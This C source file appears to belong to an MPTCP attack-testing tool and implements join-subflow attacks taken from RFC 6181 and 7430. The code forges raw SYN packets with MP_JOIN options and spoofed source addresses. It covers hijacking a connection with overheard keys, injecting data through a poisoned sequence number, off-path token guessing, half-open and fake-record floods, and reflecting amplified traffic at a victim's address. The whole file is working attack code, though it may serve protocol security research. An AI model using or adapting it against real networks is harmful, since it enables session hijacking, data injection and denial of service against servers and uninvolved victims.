/* SPDX-License-Identifier: MIT */
/* attack/a_join.c - subflows that the attacker opens, or makes the server believe in (RFC 6181 6, RFC 7430 2 to
 * 5; RFC 8684 5). By the clock: most of it works from off the path. */
#include "attack/private.h"

#include "base/serial.h"

enum { JOIN_GUESS, JOIN_FLOOD, JOIN_RECORD, JOIN_AMPLIFY };
enum { SYN_MSS = 1400, RECORD = 1300 /* octets of a made-up join record */, AHEAD = 60000 /* octets, poisoned DSN */ };

/* Where the service is everybody knows; the attacker learns it from any packet. */
static const struct mpt_attack_flow *any_flow(const struct mpt_attack *a)
{
    return a->flows ? &a->flow[0] : NULL;
}

/* A flow on a path of this play, of a connection whose keys are known. */
static struct mpt_attack_flow *keyed_here(struct mpt_attack *a, const struct mpt_attack_aim *m)
{
    for (size_t i = 0; i < a->flows; i++) {
        struct mpt_attack_flow *f = &a->flow[i];

        if ((m->play.paths >> f->path & 1) && f->conn && f->conn->known[0] && f->conn->known[1])
            return f;
    }
    return NULL;
}

static uint32_t first_path(const struct mpt_attack_aim *m)
{
    uint32_t path = 0;

    while (path < 31 && !(m->play.paths >> path & 1))
        path++;
    return path;
}

/* From keys, or as it stands in a join SYN. */
static uint32_t known_token(struct mpt_attack *a)
{
    struct mpt_attack_flow *f = mpt_learn_keyed(a);

    if (f)
        return f->conn->token[1];
    for (size_t i = 0; i < a->flows; i++)
        if (a->flow[i].join && a->flow[i].initiator == 0)
            return a->flow[i].token;
    return mpt_attack_random(a);
}

/* Looks like one (jwd/README.md): version, length, a body, a tag that cannot be right. */
static void fake_record(struct mpt_attack *a, uint8_t *p)
{
    a->env.random(a->env.random_ctx, p, RECORD);
    p[0] = 1;
    mpt_bytes_put16(p + 1, RECORD - 19);
    p[3] = 0;
}

/* A SYN with MP_JOIN from a host that is not the client. */
static void spray(struct mpt_attack *a, struct mpt_attack_aim *m, uint64_t now)
{
    const struct mpt_attack_flow *f = any_flow(a);
    uint8_t opt[40] = { 2, 4 }, data[RECORD];
    struct mpt_mp_join o = { .len = 12, .id = 7 };
    struct mpt_attack_view v = { .dir = MPT_ATTACK_UP };
    struct mpt_tcp_out out = { .window = 0xffff, .flags = MPT_TCP_SYN };

    if (!f) {
        a->stats.failed++;
        return;
    }
    v.path = first_path(m);
    v.dst = f->end[1];
    v.src = mpt_end_host(a, &v.dst, (uint16_t)(1024 + m->n++ % 60000));
    if (m->row->arg == JOIN_AMPLIFY) /* all of one flow's: the victim */
        v.src.ip[v.src.family == 6 ? 15 : 3] ^= 1;
    o.token = m->row->arg == JOIN_GUESS ? mpt_attack_random(a) : known_token(a);
    o.random = mpt_attack_random(a);
    if (m->row->arg == JOIN_RECORD) {
        o.flags = MP_JOIN_D;
        fake_record(a, data);
        out.len = RECORD;
    }
    out.seq = mpt_attack_random(a);
    mpt_bytes_put16(opt + 2, SYN_MSS);
    out.opt_len = (uint32_t)(mpt_options_pad(opt, mpt_mp_join_build(opt + 4, &o)) - opt);
    if (mpt_forge_raw(a, &v, &out, opt, data, now, now))
        m->done[0]++;
}

/* With overheard keys anybody can join (RFC 7430 5; RFC 8684 5 says so of its own HMAC). */
static void hijack(struct mpt_attack *a, struct mpt_attack_aim *m, uint64_t now)
{
    struct mpt_attack_flow *f = keyed_here(a, m);
    struct attack_end *e;

    if (!f) {
        a->stats.failed++;
        return;
    }
    e = mpt_end_join(a, m, f, (uint16_t)(50000 + m->n++), now);
    if (!e)
        return;
    m->done[0]++;
    if (m->row->arg && f->side[0].has_map) {
        e->poison = 1;
        e->dsn = f->side[0].dsn + AHEAD;
    }
}

const struct mpt_attack_row mpt_attack_join[] = {
    { .name = "join-steal", .line = "joins from the client's address with overheard keys and swallows what comes",
      .needs = "both keys", .aims = "data that goes to the attacker and is lost", .rfc = "RFC 7430 5, RFC 6181 6.1",
      .interval = 1000000, .count = 1, .tick = hijack },
    { .name = "join-inject", .line = "the same, and puts octets of its own into the client's stream",
      .needs = "both keys, data sequence numbers", .aims = "octets that nobody sent in the stream",
      .rfc = "RFC 7430 5, RFC 6181 6.1", .interval = 1000000, .count = 1, .arg = 1, .tick = hijack },
    { .name = "guess-token", .line = "joins with guessed tokens from off the path, one each ms", .needs = "nothing",
      .aims = "a subflow; the server's time", .rfc = "RFC 6181 6.1, RFC 8684 3.2", .interval = 1000000,
      .arg = JOIN_GUESS, .tick = spray },
    { .name = "flood-join", .line = "joins with the right token and no third ACK, five each ms",
      .needs = "the token: keys, or a join SYN", .aims = "the server's room for half-open subflows",
      .rfc = "RFC 7430 3", .interval = 200000, .early = 1, .arg = JOIN_FLOOD, .tick = spray },
    { .name = "flood-record", .line = "the same with made-up join records", .needs = "the token",
      .aims = "the server's time for tags, its memory", .rfc = "RFC 7430 3", .interval = 1000000, .early = 1, .arg = JOIN_RECORD,
      .tick = spray },
    { .name = "amplify", .line = "joins with the right token from a victim's address", .needs = "the token",
      .aims = "more packets to the victim than it took to cause them", .rfc = "RFC 6181 5, RFC 7430 4",
      .interval = 10000000, .arg = JOIN_AMPLIFY, .tick = spray },
    { .name = NULL },
};
